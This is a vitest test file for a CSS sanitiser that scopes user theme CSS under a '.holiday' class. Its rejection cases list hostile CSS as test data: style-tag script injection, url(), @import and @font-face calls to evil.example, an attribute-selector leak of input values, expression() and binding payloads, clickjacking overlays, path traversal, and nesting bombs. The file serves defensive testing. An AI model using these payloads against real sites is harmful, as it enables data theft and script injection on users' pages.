import { expect, test } from 'vitest'
import { scopedCss } from './theme-css.ts'

const hash = '0123456789abcdef0123456789abcdef'

test.each([
  { typed: '', css: '' },
  { typed: 'h1 { color: #FF0000 }', css: '.holiday h1{color:red}' },
  {
    typed: 'a, .banner > p:hover { text-decoration: underline }',
    css: '.holiday a,.holiday .banner>p:hover{text-decoration:underline}',
  },
  {
    typed: ':scope { border-bottom: 2px solid var(--accent) }',
    css: '.holiday{border-bottom:2px solid var(--accent)}',
  },
  { typed: `* { background: url(/media/${hash}.jpg) }`, css: `.holiday *{background:url(/media/${hash}.jpg)}` },
  {
    typed: 'p { background-image: linear-gradient(90deg, #d48, #48d) }',
    css: '.holiday p{background-image:linear-gradient(90deg,#d48,#48d)}',
  },
  {
    typed: '@media (prefers-color-scheme: dark) { p { color: gold } }',
    css: '@media (prefers-color-scheme:dark){.holiday p{color:gold}}',
  },
  { typed: 'p { color: red', css: '.holiday p{color:red}' },
  { typed: 'body { color: red }', css: '.holiday body{color:red}' },
])('scopes $typed as $css', ({ typed, css }) => {
  expect(scopedCss(typed)).toBe(css)
})

test.each([
  '</style><script>alert(1)</script>',
  'p{} body{display:none} .x{',
  'button { display: none }',
  'button { visibility: hidden }',
  'button { opacity: 0 }',
  'p { position: fixed; inset: 0 }',
  'p { z-index: 9999 }',
  'p { transform: scale(99) }',
  'p { pointer-events: none }',
  'p::before { content: "Pay here" }',
  'p { box-shadow: 0 0 0 9999px red }',
  'p { box-shadow: 0 0 0 100vmax red }',
  'p { box-shadow: 0 0 0 calc(100 * 64px) red }',
  'p { box-shadow: 0 0 0 calc(50vw + 1px) red }',
  'p { border: var(--accent) calc(9 * 999px) }',
  'p { letter-spacing: -9999px }',
  '@import url(//evil.example);',
  '@import "https://evil.example/x.css";',
  'p { background: url(https://evil.example/?a) }',
  'p { background: url(//evil.example/?a) }',
  'p { background: url(data:image/svg+xml,%3Csvg/%3E) }',
  `p { background: url(/media/../api/logout) }`,
  'p { background: \\75rl(https://evil.example) }',
  'p { background: image-set("https://evil.example/a.png" 1x) }',
  'p { background: image-set(url(https://evil.example/a.png) 1x) }',
  'p { background: -webkit-image-set(url(https://evil.example/a.png) 1x) }',
  'p { background: cross-fade(url(https://evil.example/a.png), red) }',
  'p { background: var(--x, url(https://evil.example)) }',
  'p { color: var(--secret) }',
  'p { --primary: red }',
  'input[value^="a"] { background: url(https://evil.example/a) }',
  'input[value^="a"] { color: red }',
  '#total { color: red }',
  ':root { color: red }',
  'p:has(input:checked) { color: red }',
  'p:not(.x) { color: red }',
  'p + form { color: red }',
  'p ~ form { color: red }',
  ':scope p :scope { color: red }',
  'p { & a { color: red } }',
  '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
  '@keyframes x { from { color: red } }',
  '@supports (display: grid) { p { display: none } }',
  '@layer base { p { color: red } }',
  '@namespace svg url(http://evil.example);',
  '@property --x { syntax: "*"; inherits: false }',
  '@container (min-width: 1px) { p { color: red } }',
  '@page { color: red }',
  'p { width: expression(alert(1)) }',
  'p { color: expression(alert(1)) }',
  'p { -moz-binding: url(evil.xml#x) }',
  'p { behavior: url(evil.htc) }',
  '.\\3c script { color: red }',
  '.\\3c\\/style\\3e { color: red }',
  'p { color: red; } } body { color: red }',
  '{'.repeat(20_000),
  '{',
  'p { font-family: evil }',
  'p { background-image: url("/media/x.jpg\\"onload=") }',
])('rejects %s with a reason', (typed) => {
  expect(() => scopedCss(typed)).toThrow(
    expect.objectContaining({ status: 400, fields: { cssOverrides: expect.any(Array) } }),
  )
})

test('drops only an unclosed comment', () => {
  expect(scopedCss('p { color: red } /* } body { display: none }')).toBe('.holiday p{color:red}')
})

test('handles twenty thousand characters of nesting quickly', () => {
  const started = performance.now()
  for (const typed of [
    '{'.repeat(20_000),
    'p('.repeat(10_000),
    'p{color:'.repeat(2_500),
    '/*'.repeat(10_000),
    'a '.repeat(10_000),
  ]) {
    try {
      scopedCss(typed)
    } catch (error) {
      expect(error).toMatchObject({ status: 400 })
    }
  }

  expect(performance.now() - started).toBeLessThan(10_000)
})

test('reports all problems of the CSS at once', () => {
  const typed = `p { position: fixed; content: "x"; background: url(https://a.example/x.png) } a { display: none }`
  const problem = (() => {
    try {
      return scopedCss(typed)
    } catch (error) {
      return (error as { fields: Record<string, string[]> }).fields.cssOverrides
    }
  })()

  expect(problem).toEqual(
    expect.arrayContaining([
      'Quotes, escapes and “<” are not possible',
      'Pictures must be uploaded here: use url(/media/…)',
      'position is not possible',
      'display is not possible',
    ]),
  )
})
